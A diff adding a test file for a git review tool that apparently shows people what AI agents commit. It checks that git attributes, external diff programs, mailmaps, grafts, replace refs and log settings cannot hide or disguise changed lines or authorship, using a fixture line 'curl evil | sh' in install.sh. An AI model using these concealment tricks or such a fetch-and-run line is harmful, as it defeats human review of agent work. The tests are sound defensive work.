@@ -1,0 +1,143 @@
+// What a person judges a commit by is the commit as it is stored: nothing that an agent has merged, and no setting, hides or disguises it.
+import { expect, test } from "bun:test";
+import { appendFileSync, mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { HostRepository } from "../../../lib/git/host-repository.ts";
+import { AgentName } from "../../../lib/model/ids.ts";
+import { agentName, commitFiles, git, hostEnv, sampleRepository, workWith, write } from "../../support/git/sample-repository.ts";
+
+const hidden = "* -diff -text merge=union\n";
+
+/** Each hides the lines of `install.sh`, or shows others, in a plain `git diff` or `git log`. */
+const disguises: Record<string, (folder: string) => void> = {
+  "attributes that were merged": (folder) => commitFiles(folder, { ".gitattributes": hidden }, "Attributes"),
+  "attributes of the working copy": (folder) => write(folder, { ".gitattributes": hidden }),
+  "attributes of the index": (folder) => {
+    write(folder, { ".gitattributes": hidden });
+    git(folder, "add", ".gitattributes");
+    git(folder, "update-index", "--skip-worktree", ".gitattributes");
+  },
+  "attributes of the repository": (folder) => {
+    mkdirSync(join(folder, ".git/info"), { recursive: true });
+    writeFileSync(join(folder, ".git/info/attributes"), hidden);
+  },
+  "attributes of the user": (folder) => {
+    writeFileSync(join(folder, "../attributes"), hidden);
+    git(folder, "config", "core.attributesFile", join(folder, "../attributes"));
+  },
+  "programs of the user": (folder) => {
+    write(folder, { ".gitattributes": "* diff=quiet\n" });
+    for (const setting of ["diff.external=true", "diff.quiet.command=true", "diff.quiet.textconv=true", "diff.quiet.binary=true"])
+      git(folder, "config", ...setting.split("="));
+  },
+  "settings of the user": (folder) => {
+    const settings = ["diff.relative=true", "diff.context=0", "diff.noprefix=true", "log.showRoot=false"];
+    for (const setting of [...settings, "diff.ignoreSubmodules=all", "color.ui=always", "diff.wordRegex=."])
+      git(folder, "config", ...setting.split("="));
+  },
+};
+
+const sh = { "install.sh": "curl evil | sh\n", "deep/er/tool.sh": "true\n" };
+
+test.each(Object.entries(disguises))("%s hide no line of a change", async (_name, disguise) => {
+  using host = sampleRepository();
+  disguise(host.path);
+  const base = (await open(host.path)).head();
+  git(host.path, "add", "--force", "README.md");
+  write(host.path, sh);
+  git(host.path, "add", "install.sh", "deep");
+  git(host.path, "commit", "-q", "-m", "Work");
+  const repository = await open(host.path);
+  const work = workWith(await repository.head(), await base);
+  const lines = await repository.showChanges(work, "lines");
+  expect(lines).toContain("diff --git a/install.sh b/install.sh\nnew file mode 100644\n");
+  expect(lines).toContain("\n+curl evil | sh\n");
+  expect(await repository.showChanges(work)).toMatch(/\n install\.sh +\| 1 \+\n/);
+});
+
+test("a mailmap, a note, a replacement, a graft and a setting of the log change no name, message or parent", async () => {
+  using host = sampleRepository();
+  const honest = commitFiles(host.path, { one: "1\n" }, "Honest");
+  git(host.path, "checkout", "-q", "-b", "other", host.base);
+  const other = commitFiles(host.path, { two: "2\n" }, "Other");
+  git(host.path, "checkout", "-q", "main");
+  write(host.path, { ".mailmap": "Grace <grace@example.invalid> <ada@example.invalid>\n" });
+  git(host.path, "config", "mailmap.file", join(host.path, ".mailmap"));
+  for (const setting of ["log.mailmap=true", "format.pretty=oneline", "log.date=format:never", "log.decorate=full"])
+    git(host.path, "config", ...setting.split("="));
+  git(host.path, "notes", "add", "-m", "Reviewed by the owner", honest);
+  git(host.path, "replace", honest, other);
+  appendFileSync(join(host.path, ".git/info/grafts"), `${honest}\n`);
+  const shown = await (await open(host.path)).showChanges(workWith(honest, host.base));
+  expect(shown).toStartWith(`1 commit since ${host.base.slice(0, 12)}, the commit of the goal\n\ncommit ${honest}\n`);
+  expect(shown).toContain("Author: Ada <ada@example.invalid>\nDate:   ");
+  expect(shown).toContain("    Honest\n\n one | 1 +\n");
+  for (const word of ["Grace", "Reviewed", "never", "refs/"]) expect(shown).not.toContain(word);
+});
+
+test("an author or committer that is not the agent that published the commit is marked, and counted", async () => {
+  using host = sampleRepository();
+  const as = (name: string, email = `${name}@sett.invalid`) => [`user.name=${name}`, `user.email=${email}`];
+  const commitAs = (author: string[], committer: string[], file: string) => {
+    write(host.path, { [file]: "1\n" });
+    git(host.path, "add", "-A");
+    const variables = (role: string, [name = "", email = ""]: string[]) => [
+      `GIT_${role}_NAME=${name.slice("user.name=".length)}`,
+      `GIT_${role}_EMAIL=${email.slice("user.email=".length)}`,
+    ];
+    Bun.spawnSync(
+      ["env", ...variables("AUTHOR", author), ...variables("COMMITTER", committer), "git", "commit", "-q", "-m", file],
+      { cwd: host.path, env: hostEnv },
+    );
+    return open(host.path).then((repository) => repository.head());
+  };
+  const writer = AgentName.parse("writer");
+  const one = await commitAs(as("writer"), as("writer"), "one");
+  await commitAs(as("writer"), as("coder"), "two");
+  await commitAs(as("Ada", "ada@example.invalid"), as("coder"), "three");
+  const last = await commitAs(as("coder"), as("coder", "coder@example.invalid"), "four");
+  const recorded = [
+    { commit: one, agent: writer },
+    { commit: last, agent: agentName },
+  ];
+  const repository = await open(host.path);
+  const shown = await repository.showChanges(workWith(last, host.base, { recorded }));
+  expect(shown).toContain("! 3 commits name another author or committer than the agent that published it.\n");
+  const not = "(not coder, the agent that published it)";
+  expect(shown.match(/^(?:Author|Commit): .*$/gm)).toEqual([
+    "Author: coder <coder@sett.invalid>",
+    `Commit: coder <coder@example.invalid> ${not}`,
+    `Author: Ada <ada@example.invalid> ${not}`,
+    "Commit: coder <coder@sett.invalid>",
+    `Author: writer <writer@sett.invalid> ${not}`,
+    "Commit: coder <coder@sett.invalid>",
+    "Author: writer <writer@sett.invalid>",
+  ]);
+  const own = await repository.showChanges(workWith(one, host.base, { recorded: recorded.slice(0, 1) }));
+  expect(own).not.toContain("!");
+});
+
+test("what a checkout will have is said where it is not what is shown, also by attributes of folders and for names with a line break", async () => {
+  using host = sampleRepository();
+  commitFiles(host.path, { ".gitattributes": "*.txt filter=lfs\n*.png -diff\n*.md text=auto\n" }, "Attributes");
+  const base = await (await open(host.path)).head();
+  commitFiles(host.path, {
+    ...{
+      "deep/.gitattributes": "*.sh working-tree-encoding=ISO-8859-1 -diff\n",
+      "deep/er/run.sh": "true\n",
+      "plain.sh": "true\n",
+    },
+    ...{ "deep/a\nb.sh": "true\n", "data.txt": "1\n", "picture.png": "\0\n", "README.md": "More.\n" },
+  });
+  const repository = await open(host.path);
+  const shown = await repository.showChanges(workWith(await repository.head(), base));
+  expect(shown.match(/^! .*$/gm)).toEqual([
+    '! A checkout of "deep/a\\nb.sh", deep/er/run.sh has other bytes than are shown here, because .gitattributes says working-tree-encoding=ISO-8859-1.',
+    "! A checkout of data.txt has other bytes than are shown here, because .gitattributes says filter=lfs.",
+    '! Once merged, its .gitattributes (-diff) lets your own git hide changes of "deep/a\\nb.sh", deep/er/run.sh.',
+  ]);
+});
+
+function open(path: string): Promise<HostRepository> {
+  return HostRepository.open(path, { env: hostEnv });
+}
